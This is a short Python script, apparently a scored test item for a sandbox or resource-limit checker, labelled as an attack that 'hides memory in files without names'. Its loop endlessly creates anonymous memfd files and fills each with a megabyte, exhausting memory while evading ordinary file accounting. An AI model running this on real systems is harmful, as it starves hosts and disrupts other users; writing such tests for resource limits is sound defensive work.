#| attack: hides memory in files without names
#| row: exhausts
#| points: 0
import os
hoard = []
while True:
    hoard.append(os.memfd_create('x'))
    os.write(hoard[-1], bytes(1 << 20))
